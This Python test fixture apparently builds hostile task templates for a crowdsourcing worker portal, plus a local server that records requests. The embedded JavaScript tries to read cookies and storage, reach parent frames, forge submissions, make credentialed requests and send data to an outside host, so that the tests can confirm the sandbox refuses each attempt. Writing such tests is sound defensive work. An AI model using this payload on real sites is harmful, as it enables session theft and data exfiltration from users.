"""Worker templates that mean harm, as somebody might upload them, and a host for them to call."""

from __future__ import annotations

import http.server
import json
import threading

_SCRIPT = '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>'
_FORM = '<crowd-form><crowd-input name="word" label="Word"></crowd-input></crowd-form>'

# Every way out that a script in a page has. Each attempt ends as "refused", or with what it got hold of;
# the outcomes come to the portal as the draft of a message.
_ATTEMPTS = """
const desk = location.protocol + "//" + location.host;
const inTime = (promise) => Promise.race([promise, new Promise((r) => setTimeout(r, 1500, "refused"))]);
const loads = (tag, attributes) => new Promise((resolve) => {
  const element = document.createElement(tag);
  element.onload = () => resolve("REACHED");
  element.onerror = () => resolve("refused");
  Object.assign(element, attributes);
  document.body.append(element);
});
const posts = (target) => {
  const form = document.createElement("form");
  Object.assign(form, { action: desk + "/sign-out", method: "post", target });
  document.body.append(form);
  form.submit();
  return "refused";
};
const asks = (url, method) =>
  fetch(url, { method, credentials: "include", mode: "no-cors" }).then(() => "REACHED");
const attempts = {
  "origin": () => (self.origin === "null" ? "refused" : self.origin),
  "document.cookie": () => document.cookie || "empty",
  "localStorage": () => JSON.stringify(localStorage),
  "sessionStorage": () => JSON.stringify(sessionStorage),
  "indexedDB": () => new Promise((resolve, reject) => {
    const request = indexedDB.open("x");
    request.onsuccess = () => resolve("REACHED");
    request.onerror = () => reject();
  }),
  "caches": () => caches.keys().then(() => "REACHED"),
  "cookieStore": () => cookieStore.getAll().then((all) => JSON.stringify(all)),
  "parent.document": () => parent.document.title,
  "parent.location": () => parent.location.href,
  "parent.fetch": () => parent.fetch,
  "parent.dispatchEvent": () => parent.dispatchEvent(
    new MessageEvent("message", { data: { desk: 1, type: "submit", answer: {} }, origin: desk }),
  ),
  "top.location": () => { top.location.href = desk + "/answers"; return "REACHED"; },
  "frameElement": () => (window.frameElement === null ? "refused" : "REACHED"),
  "window.open": () => (window.open(desk + "/") === null ? "refused" : "REACHED"),
  "fetch the desk": () => asks(desk + "/worker/tasks/next", "POST"),
  "fetch another host": () => asks(OUTSIDE + "/fetch", "GET"),
  "XMLHttpRequest": () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve("REACHED");
    request.onerror = () => reject();
    request.open("DELETE", desk + "/worker/sessions");
    request.withCredentials = true;
    request.send();
  }),
  "sendBeacon": () => { navigator.sendBeacon(OUTSIDE + "/beacon", "x"); return "refused"; },
  "WebSocket": () => new Promise((resolve, reject) => {
    const socket = new WebSocket(OUTSIDE.replace("http", "ws"));
    socket.onopen = () => resolve("REACHED");
    socket.onerror = () => reject();
  }),
  "EventSource": () => new Promise((resolve, reject) => {
    const source = new EventSource(OUTSIDE + "/events");
    source.onopen = () => resolve("REACHED");
    source.onerror = () => reject();
  }),
  "image of the desk": () => loads("img", { src: desk + "/worker/queue" }),
  "image elsewhere": () => loads("img", { src: OUTSIDE + "/image" }),
  "script elsewhere": () => loads("script", { src: OUTSIDE + "/script.js" }),
  "script of the desk's pages": () => loads("script", { src: desk + "/static/desk.js" }),
  "style elsewhere": () => loads("link", { rel: "stylesheet", href: OUTSIDE + "/style.css" }),
  "module elsewhere": () => import(OUTSIDE + "/module.js").then(() => "REACHED"),
  "font elsewhere": () => new FontFace("f", "url(" + OUTSIDE + "/font)").load().then(() => "REACHED"),
  "video elsewhere": () => new Promise((resolve, reject) => {
    const video = document.createElement("video");
    video.onerror = () => reject();
    video.onloadeddata = () => resolve("REACHED");
    video.src = OUTSIDE + "/video";
  }),
  "frame of the desk": () => {
    const frame = document.createElement("iframe");
    frame.src = desk + "/";
    document.body.append(frame);
    return new Promise((resolve) => {
      frame.onload = () => { try { resolve(frame.contentDocument.title); } catch { resolve("refused"); } };
    });
  },
  "worker": () => new Promise((resolve, reject) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => resolve("REACHED");
    worker.onerror = () => reject();
  }),
  "eval": () => eval("'REACHED'"),
  "new Function": () => new Function("return 'REACHED'")(),
  "confirm": () => (confirm("Send everything?") ? "REACHED" : "refused"),
  "form to the desk": () => posts("_self"),
  "form in the portal": () => posts("_top"),
  "form in a new window": () => posts("_blank"),
  "base": () => {
    document.head.append(Object.assign(document.createElement("base"), { href: OUTSIDE }));
    return document.baseURI.startsWith(OUTSIDE) ? "REACHED" : "refused";
  },
};
const outcome = async ([name, attempt]) => {
  try { return [name, String(await inTime(Promise.resolve(attempt())))]; } catch { return [name, "refused"]; }
};
Promise.all(Object.entries(attempts).map(outcome)).then((all) => {
  parent.postMessage({ desk: 1, type: "draft", draft: { outcomes: Object.fromEntries(all) } }, "*");
});
"""


def reaching_template(outside: str) -> str:
    """Tries every way to the desk and to ``outside``, the URL of a server; tells the outcomes in a draft."""
    return f"{_SCRIPT}{_FORM}<script>const OUTSIDE = {json.dumps(outside)};{_ATTEMPTS}</script>"


def leaving_template(target: str) -> str:
    """Leads its own frame to another address, with what it knows."""
    return f"{_SCRIPT}{_FORM}<script>setTimeout(() => location.assign({json.dumps(target)}), 0)</script>"


class Outside:
    """A server that is not the desk, and what was asked of it."""

    def __init__(self) -> None:
        asked: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_PUT = do_OPTIONS = do_GET

            def log_message(self, *_arguments: object) -> None:
                return

        self.asked = asked
        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
